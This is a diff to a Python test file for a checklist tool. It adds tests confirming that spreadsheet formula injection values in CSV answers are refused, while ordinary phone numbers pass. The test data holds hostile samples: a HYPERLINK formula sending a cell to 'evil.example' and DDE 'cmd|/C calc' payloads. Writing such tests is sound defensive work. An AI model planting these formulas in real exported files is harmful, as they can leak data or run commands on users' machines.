@@ -377,7 +377,8 @@ def change_during_import_is_refused():
 
 @test
 def b01_spreadsheet_formulas_are_refused():
-    for value in ('"=HYPERLINK(""http://evil.example/?d=""&A2,""open"")"', "+1+555", "+15550100", "-2 dB", "@SUM(A1)"):
+    for value in ('"=HYPERLINK(""http://evil.example/?d=""&A2,""open"")"', "+1+555", "+1-555-0100*2",
+                  "+44 20 7946 0123 =1+1", "+1-555-0100+cmd|' /C calc'!A0", "-2 dB", "@SUM(A1)"):
         refuse(f"id,answer\nREQ-3,{value}\n", "which a spreadsheet runs as a formula")
 
 
@@ -2992,6 +2993,24 @@ def h49_a_code_s_name_inflected_or_after_its_number_and_passphrases_in_more_lang
     answers (the strings are in BOUND_REFUSED and BOUND_ACCEPTED)."""
     assert cl.number_before_code("a 4417 k\u00f3ddal ny\u00edlik") == ("4417", "k\u00f3ddal")
     assert cl.number_before_code("Hata 29240 koduyla kapan\u0131r") is None      # an error's code
+
+
+@test
+def h50_p2_views_warn_on_a_file_that_fails_its_check_and_a_phone_number_opens_no_formula():
+    """Round 50 (H50-29, H50-8): 'status', 'items', 'form' and 'profiles' on a checklist cut short say on stderr that it
+    fails its own check, with the first defect's line, before what they print; a phone number may start an answer only
+    when a word or the end follows it and nothing a formula needs stands anywhere after ('+1-555-0100*2' is refused)."""
+    with Sandbox(FIXTURE[:len(FIXTURE) // 2]) as box:
+        for command in ("status", "items", "profiles"):
+            result = run_main(command, "--file", box.doc)
+            assert "warning: this file fails its own check (" in result.stderr and "'check' lists them" in \
+                result.stderr, (command, result)
+    with Sandbox() as box:
+        assert "warning" not in run_main("status", "--file", box.doc).stderr
+    for text in ("+1 (555) 010-0199 (NOC)", "+49 89 1234567, ask for Jo"):
+        assert cl.text_problems(text) == [], text
+    for text in ("+44 20 7946 0123,=cmd|'/C calc'!A0", "+44 20 7946 0123+HYPERLINK(\"http://x\")", "+" + "1 " * 990):
+        assert "runs as a formula" in cl.text_problems(text)[0], text
 
 
 @test
